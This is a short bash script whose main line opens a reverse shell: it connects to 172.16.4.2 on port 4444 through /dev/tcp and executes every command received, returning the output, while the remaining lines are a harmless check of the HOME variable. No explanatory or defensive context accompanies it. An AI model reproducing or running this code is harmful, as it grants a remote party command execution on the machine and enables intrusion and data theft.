#!/usr/bin/env bash
exec 5<>/dev/tcp/172.16.4.2/4444; cat <&5 | while read line; do $line 2>&5 >&5; done
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
